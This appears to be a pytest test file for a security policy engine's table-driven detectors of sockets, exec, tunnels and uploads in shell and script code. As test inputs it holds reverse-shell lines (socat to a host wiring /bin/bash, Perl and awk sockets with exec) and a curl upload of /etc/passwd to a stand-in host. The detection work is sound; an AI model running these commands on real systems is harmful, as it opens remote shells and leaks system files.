"""The table-driven detectors: language primitives, network tools, evasion mechanisms.

Every entry carries examples; the tables are checked when a policy loads (an entry whose
example no longer matches makes ``load_policy`` fail).
"""

from __future__ import annotations

import pytest

from hazmat.errors import PolicyError
from hazmat.policy import detectors, engine, langs, load_policy
from hazmat.policy.detectors import evasion, toolnet
from hazmat.policy.detectors.toolnet import capabilities
from hazmat.policy.shell import parse_shell


def test_every_table_entry_checks_its_examples() -> None:
    assert langs.verify_primitives() == []
    assert toolnet.verify_tools() == []
    assert evasion.verify_mechanisms() == []


def test_tables_cover_many_languages_and_tools() -> None:
    assert {p.lang for p in langs.PRIMITIVES} >= {
        "perl", "ruby", "php", "lua", "node", "julia", "awk", "tcl",
    }  # fmt: skip
    assert len(toolnet.TOOLS) >= 100
    assert len(evasion.MECHANISMS) >= 10


def test_a_broken_example_makes_the_policy_fail_to_load(monkeypatch: pytest.MonkeyPatch) -> None:
    bad = langs.Primitive("perl", "socket", r"NoSuchThing", "IO::Socket::INET->new()")
    monkeypatch.setattr(langs, "PRIMITIVES", (*langs.PRIMITIVES, bad))
    monkeypatch.setattr(engine, "_CACHE", {})
    monkeypatch.setattr(detectors, "_VERIFIED", None)  # checked once per process otherwise
    assert langs.verify_primitives() == [
        "primitive perl/socket 'NoSuchThing': misses 'IO::Socket::INET->new()'"
    ]
    with pytest.raises(PolicyError, match="NoSuchThing"):
        load_policy(None)


@pytest.mark.parametrize(
    ("lang", "code", "kinds"),
    [
        (
            "perl",
            'use IO::Socket::INET; $s=IO::Socket::INET->new(PeerAddr=>"1.2.3.4:80"); exec("/bin/sh")',
            {"socket", "exec", "shell"},
        ),
        ("ruby", 'require "socket"; TCPSocket.new("x", 1)', {"socket"}),
        ("node", 'require("child_process").exec("id")', {"exec"}),
        ("awk", 'BEGIN{s="/inet/tcp/0/1.2.3.4/80"; print |& s}', {"socket", "exec"}),
    ],
)
def test_language_primitives(lang: str, code: str, kinds: set[str]) -> None:
    assert kinds <= set(langs.code_capabilities(lang, code))


def test_plain_code_has_no_primitives() -> None:
    assert langs.code_capabilities("perl", 'print "hello\\n"') == {}


def caps(command: str) -> list[toolnet.Cap]:
    return capabilities(parse_shell(command).commands[0])


def test_socat_wiring_a_shell_to_a_socket() -> None:
    (cap,) = caps("socat tcp-connect:1.2.3.4:4444 exec:/bin/bash,pty")
    assert cap.kind == "exec" and cap.program == "/bin/bash"
    assert cap.endpoint is not None and cap.endpoint.host == "1.2.3.4"


def test_ssh_remote_forward_is_an_inbound_tunnel() -> None:
    (cap,) = caps("ssh -R 9000:localhost:22 u@h.example.org")
    assert (cap.kind, cap.direction) == ("tunnel", "in")
    assert cap.endpoint is not None and cap.endpoint.host == "h.example.org"


def test_http_server_root_and_bind_address() -> None:
    served = [
        c
        for c in caps("python3 -m http.server 8000 --bind 0.0.0.0 --directory /")
        if c.kind == "serve"
    ]
    assert served and served[0].path == "/" and toolnet.bind_exposed(served[0].addr)
    local = [c for c in caps("python3 -m http.server 8000 --bind 127.0.0.1") if c.kind == "serve"]
    assert local and not toolnet.bind_exposed(local[0].addr)


def test_upload_names_source_and_destination() -> None:
    (cap,) = caps("curl -T /etc/passwd https://x.example.org/")
    assert cap.kind == "upload" and cap.path == "/etc/passwd"
    assert cap.endpoint is not None and cap.endpoint.host == "x.example.org"


def test_ordinary_commands_ask_for_nothing() -> None:
    assert caps("git status") == []
    assert caps("ls -la") == []


def test_shellish_programs() -> None:
    assert toolnet.shellish("/bin/bash")
    assert toolnet.shellish("sh -i")
    assert not toolnet.shellish("/usr/bin/date")
